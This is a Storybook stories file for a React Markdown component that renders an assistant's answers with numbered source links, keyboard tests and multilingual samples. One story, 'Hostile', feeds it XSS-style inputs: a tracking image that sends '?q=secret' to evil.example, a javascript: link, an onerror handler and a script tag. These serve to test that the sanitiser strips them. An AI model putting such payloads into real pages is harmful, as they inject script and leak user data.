import type { Meta, StoryObj } from '@storybook/react-vite'
import { expect, fn, userEvent, within } from 'storybook/test'

import { examples } from '@/api/examples.gen'

import type { ComponentGuide } from '../guide'
import { Markdown } from './Markdown'

const guide: ComponentGuide = {
  purpose:
    'Shows an answer of the assistant: paragraphs, headings, lists, tables, code and links out of Markdown, with small numbers for its sources.',
  notFor:
    'What people wrote in the editor (RichText, which reads deltas), and words of the portal itself (Text, Heading): they are messages, never Markdown.',
  keyboard: [
    { keys: 'Tab', does: 'Goes to the next link, source number, table or block of code' },
    { keys: 'Enter', does: 'Opens the link or the source' },
    { keys: '← →', does: 'Scroll a wide table or long line of code that has the focus' },
  ],
  accessibility:
    'Headings take the level below the message. Each source number carries a name that says what it leads to; tables and code can be reached and scrolled by keyboard. Pictures are never loaded: their description stands in the text.',
}

const answers = examples.askAssistant
const sources = ['Line 4 stop on Tuesday', 'report-line4.pdf, page 3', 'Prima lampada del turno', 'drift-ten-days.png']
const onOpen = fn()

const meta = {
  title: 'Components/Data/Markdown',
  component: Markdown,
  tags: ['ready'],
  parameters: { guide },
  args: {
    value: answers.withBothReferences.answer.message,
    externalLinkHint: 'opens in a new tab',
    tableLabel: 'Table',
    reference: (number) => {
      const title = sources[number - 1]
      return title === undefined ? null : { label: `Source ${number}: ${title}`, onOpen: () => onOpen(number) }
    },
  },
  decorators: [(Story) => <div style={{ maxInlineSize: '40rem' }}>{Story()}</div>],
} satisfies Meta<typeof Markdown>

export default meta
type Story = StoryObj<typeof meta>

export const Answer: Story = {
  play: async ({ canvasElement }) => {
    const second = within(canvasElement).getByRole('button', { name: 'Source 2: report-line4.pdf, page 3' })
    await userEvent.click(second)
    await expect(onOpen).toHaveBeenLastCalledWith(2)
    await userEvent.tab({ shift: true })
    await userEvent.keyboard('{Enter}')
    await expect(onOpen).toHaveBeenLastCalledWith(1)
  },
}

export const ManyMarks: Story = { args: { value: answers.withManyMarks.answer.message } }

export const WithoutSources: Story = { args: { value: answers.withoutReferences.answer.message } }

export const Everything: Story = { args: { value: answers.markdown.answer.message } }

export const Large: Story = { args: { size: 'lg' } }

export const Checklist: Story = {
  args: {
    value:
      'Before the morning round:\n\n- [x] Put the gauge on the mark\n- [ ] Write the value down [2]\n\nThe rest is in ~~the binder~~ the [manual](https://example.org/manual).\n\n---\n\nAsk <quality@example.org> when in doubt.',
  },
}

export const Growing: Story = {
  args: { growing: true, value: 'A position sensor on the **second press had drifted by [0.4 mm](https://exam' },
}

/** The words stay; pictures, addresses and HTML do not. */
export const Hostile: Story = {
  args: {
    value:
      '![Our logo](https://evil.example/pixel.png?q=secret) [Click here](javascript:alert(1)) <img src=x onerror=alert(1)>\n\n<script>alert(1)</script>',
  },
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector('img, script')).toBeNull()
    await expect(within(canvasElement).queryByRole('link')).toBeNull()
    await expect(canvasElement).toHaveTextContent('Our logo')
  },
}

export const Narrow: Story = {
  tags: ['phone'],
  args: {
    value: `${answers.markdown.answer.message}\n\n| Presse | Messwert am Montag | Messwert am Dienstag | Abweichung |\n| --- | ---: | ---: | ---: |\n| Presse 1 | 0,02 mm | 0,03 mm | 0,01 mm |\n| Presse 2 | 0,08 mm | 0,41 mm | 0,33 mm |`,
  },
  globals: { viewport: { value: 'phone' } },
  decorators: [(Story) => <div style={{ maxInlineSize: '20rem' }}>{Story()}</div>],
}

export const LongGermanText: Story = {
  args: {
    value:
      '### Positionssensorüberprüfungsdokumentation\n\nDie Qualitätssicherungsabteilung hat die Betriebsanweisungsverzeichnisse **vollständig überarbeitet** und die Prüfschritte auf Seite 14 neu geordnet. [1][2]\n\n1. Den Sensor jeden Morgen gegen die Lehre ablesen\n2. Abweichungen über 0,1 mm sofort melden',
  },
  decorators: [(Story) => <div style={{ maxInlineSize: '20rem' }}>{Story()}</div>],
}

export const Greek: Story = {
  args: {
    value:
      '## Τι αλλάζει\n\nΟ αισθητήρας θέσης στη δεύτερη πρέσα είχε **αποκλίνει** κατά 0,4 mm. [1]\n\n- Έλεγχος κάθε πρωί\n- Καταγραφή στο `drift.log`',
  },
}
